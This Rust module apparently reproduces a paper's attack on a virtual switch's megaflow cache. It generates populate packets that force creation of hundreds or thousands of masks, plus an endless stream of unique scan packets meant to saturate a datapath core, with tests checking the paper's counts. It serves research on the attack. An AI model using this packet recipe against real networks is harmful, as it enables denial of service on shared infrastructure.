//! The adversarial packet sequence.
//!
//! §2: "We also need a packet sequence that will populate the MF with
//! the 'required' entries" — the detail the paper omits "in the interest
//! of space". It is reconstructed here:
//!
//! For a whitelist term with value `v` on a `w(≤field-width)`-bit prefix,
//! the slow path un-wildcards `common_prefix(pkt, v) + 1` bits of a
//! mismatching packet. So the packet that shares exactly `b−1` leading
//! bits with `v` and flips bit `b−1` produces the megaflow prefix length
//! `b`, for any `b ∈ 1..=w`; the in-prefix value `v` itself produces
//! length `w`. One packet per per-field choice, crossed over all fields,
//! populates every reachable mask.
//!
//! The sequence additionally provides a **scan stream**: endless unique
//! packets that match the allow rule itself. Each is new to the
//! exact-match cache (unique TOS/TTL/MAC bits — all wildcarded in the
//! megaflow), so each pays a megaflow walk to one of the last-created
//! subtables, and pollutes the microflow cache on the way. This is the
//! cheap per-packet amplification that turns 1–2 Mb/s into a saturated
//! datapath core.

use pi_core::key::ETHERTYPE_IPV4;
use pi_core::{Field, FlowKey, MacAddr};

/// One whitelist term the covert sequence diverges against.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct FieldTarget {
    /// The matched field.
    pub field: Field,
    /// The whitelisted value (right-aligned).
    pub value: u64,
    /// The term's prefix length (32 for a host ip, 16 for an exact
    /// port, shorter for sweep variants).
    pub prefix_len: u8,
}

impl FieldTarget {
    /// The packet value that makes the slow path emit prefix length
    /// `b`, for `b ∈ 1..=prefix_len`; `b == prefix_len + 1` encodes the
    /// in-prefix value (same mask as `b == prefix_len`, different key).
    fn variant(&self, b: u8) -> u64 {
        let w = self.field.width();
        if b == self.prefix_len + 1 {
            return self.in_prefix(); // matches the allow term
        }
        debug_assert!(b >= 1 && b <= self.prefix_len);
        // Keep bits 0..b-1 (MSB-first) of value, flip bit b-1, zero the
        // rest.
        let keep_mask = self.field.prefix_mask(b);
        let flip_bit = 1u64 << (w - b);
        ((self.value & keep_mask) ^ flip_bit) & self.field.full_mask()
    }

    /// The whitelisted value as the field can hold it (`value` is a
    /// `pub` field: bits above the field's width are ignored).
    fn in_prefix(&self) -> u64 {
        self.value & self.field.full_mask()
    }

    /// Variants per field: prefix_len divergences + the in-prefix value.
    fn variant_count(&self) -> u64 {
        self.prefix_len as u64 + 1
    }
}

/// The attack's packet-construction target: the attacker pod plus the
/// whitelist terms of her injected ACL.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct AttackTarget {
    /// Attacker pod IP (host order) — destination of all covert packets.
    pub dst_ip: u32,
    /// IP protocol of the whitelist term (TCP in the paper).
    pub proto: u8,
    /// The whitelist terms, one per matched field.
    pub fields: Vec<FieldTarget>,
}

/// Generator for populate and scan packets.
#[derive(Debug, Clone)]
pub struct CovertSequence {
    target: AttackTarget,
}

impl CovertSequence {
    /// Builds the sequence for a target.
    pub fn new(target: AttackTarget) -> Self {
        CovertSequence { target }
    }

    /// The target this sequence was built for.
    pub fn target(&self) -> &AttackTarget {
        &self.target
    }

    /// Number of populate packets: ∏ (prefix_lenᶠ + 1).
    pub fn packet_count(&self) -> u64 {
        self.target
            .fields
            .iter()
            .map(|f| f.variant_count())
            .product()
    }

    /// Number of distinct megaflow masks the populate pass creates:
    /// ∏ prefix_lenᶠ (the paper's 512 / 8192).
    pub fn predicted_masks(&self) -> u64 {
        self.target
            .fields
            .iter()
            .map(|f| f.prefix_len as u64)
            .product()
    }

    fn base_key(&self) -> FlowKey {
        let mut k = FlowKey {
            eth_type: ETHERTYPE_IPV4,
            eth_src: MacAddr::from_id(0xa77ac),
            eth_dst: MacAddr::from_id(0xdead),
            ip_dst: self.target.dst_ip,
            ip_proto: self.target.proto,
            ip_ttl: 64,
            ..Default::default()
        };
        // Fields not targeted by the ACL keep fixed innocuous values.
        k.tp_src = 55_555;
        k.tp_dst = 55_556;
        k
    }

    /// The `n`-th populate packet (mixed-radix over per-field variants,
    /// field 0 most significant). Ordering guarantees the full-mask
    /// subtable — the scan stream's home — is created near the end of
    /// the walk order.
    pub fn populate_packet(&self, n: u64) -> FlowKey {
        debug_assert!(n < self.packet_count());
        let mut k = self.base_key();
        let mut rem = n;
        // Least-significant field last → iterate in reverse.
        for ft in self.target.fields.iter().rev() {
            let radix = ft.variant_count();
            let digit = (rem % radix) as u8;
            rem /= radix;
            // digit 0..prefix_len-1 → divergence b = digit+1;
            // digit == prefix_len → in-prefix.
            let b = digit + 1;
            // `variant` is bounded to the field's width, so `with` cannot panic.
            k = k.with(ft.field, ft.variant(b));
        }
        k
    }

    /// Iterator over the full populate pass.
    pub fn populate_packets(&self) -> impl Iterator<Item = FlowKey> + '_ {
        (0..self.packet_count()).map(move |n| self.populate_packet(n))
    }

    /// The `n`-th scan packet: matches the allow rule exactly (all
    /// fields in-prefix) but is unique in wildcarded bits, so it misses
    /// the exact-match cache and walks to the late full-mask subtable.
    pub fn scan_packet(&self, n: u64) -> FlowKey {
        let mut k = self.base_key();
        for ft in &self.target.fields {
            k = k.with(ft.field, ft.in_prefix());
        }
        // Uniqueness via fields no ACL touches (wildcarded in every
        // megaflow this attack creates): bits 0–7 of n → TOS, bits 8–14
        // → TTL, bits 15+ → source MAC. A bijection, so scans never
        // repeat a key within 2^47 packets.
        k.ip_tos = (n & 0xff) as u8;
        k.ip_ttl = 1 + ((n >> 8) & 0x7f) as u8;
        k.eth_src = MacAddr::from_id((n >> 15) as u32);
        k
    }
}

#[cfg(test)]
#[allow(
    clippy::disallowed_methods,
    reason = "a test may hash with `RandomState`"
)]
mod tests {
    use super::*;

    fn two_field_target() -> AttackTarget {
        AttackTarget {
            dst_ip: 0x0a00_0042,
            proto: 6,
            fields: vec![
                FieldTarget {
                    field: Field::IpSrc,
                    value: 0xcb00_7107, // 203.0.113.7
                    prefix_len: 32,
                },
                FieldTarget {
                    field: Field::TpDst,
                    value: 443,
                    prefix_len: 16,
                },
            ],
        }
    }

    #[test]
    fn counts_match_paper() {
        let seq = CovertSequence::new(two_field_target());
        assert_eq!(seq.predicted_masks(), 512);
        assert_eq!(seq.packet_count(), 33 * 17);
        let mut three = two_field_target();
        three.fields.push(FieldTarget {
            field: Field::TpSrc,
            value: 4444,
            prefix_len: 16,
        });
        let seq3 = CovertSequence::new(three);
        assert_eq!(seq3.predicted_masks(), 8192);
        assert_eq!(seq3.packet_count(), 33 * 17 * 17);
    }

    #[test]
    fn variants_share_exactly_b_minus_1_bits() {
        let ft = FieldTarget {
            field: Field::IpSrc,
            value: 0xcb00_7107,
            prefix_len: 32,
        };
        for b in 1..=32u8 {
            let v = ft.variant(b);
            // Shares b-1 leading bits, differs at bit b-1.
            let shared = Field::IpSrc.prefix_mask(b - 1);
            assert_eq!(v & shared, ft.value & shared, "b={b}");
            let bit = 1u64 << (32 - b);
            assert_ne!(v & bit, ft.value & bit, "b={b} must flip bit {b}");
        }
        // In-prefix variant is the value itself.
        assert_eq!(ft.variant(33), ft.value);
    }

    #[test]
    fn all_populate_packets_are_distinct() {
        let seq = CovertSequence::new(two_field_target());
        let mut seen = std::collections::HashSet::new();
        for k in seq.populate_packets() {
            assert!(seen.insert(k), "duplicate populate packet {k}");
            assert_eq!(k.ip_dst, 0x0a00_0042);
            assert_eq!(k.ip_proto, 6);
        }
        assert_eq!(seen.len(), 33 * 17);
    }

    #[test]
    fn last_populate_packet_is_the_allow_flow() {
        let seq = CovertSequence::new(two_field_target());
        let last = seq.populate_packet(seq.packet_count() - 1);
        assert_eq!(last.ip_src, 0xcb00_7107);
        assert_eq!(last.tp_dst, 443);
    }

    #[test]
    fn scan_packets_match_allow_rule_and_are_unique() {
        let seq = CovertSequence::new(two_field_target());
        let mut seen = std::collections::HashSet::new();
        for n in 0..10_000u64 {
            let k = seq.scan_packet(n);
            assert_eq!(k.ip_src, 0xcb00_7107, "scan must match the whitelist");
            assert_eq!(k.tp_dst, 443);
            assert!(seen.insert(k), "scan packet {n} not unique");
        }
    }

    #[test]
    fn short_prefix_target_scales_down() {
        let t = AttackTarget {
            dst_ip: 1,
            proto: 6,
            fields: vec![FieldTarget {
                field: Field::IpSrc,
                value: 0x0a00_0000,
                prefix_len: 8,
            }],
        };
        let seq = CovertSequence::new(t);
        assert_eq!(seq.predicted_masks(), 8); // the Fig. 2 count
        assert_eq!(seq.packet_count(), 9); // 8 divergences + in-prefix
    }
}
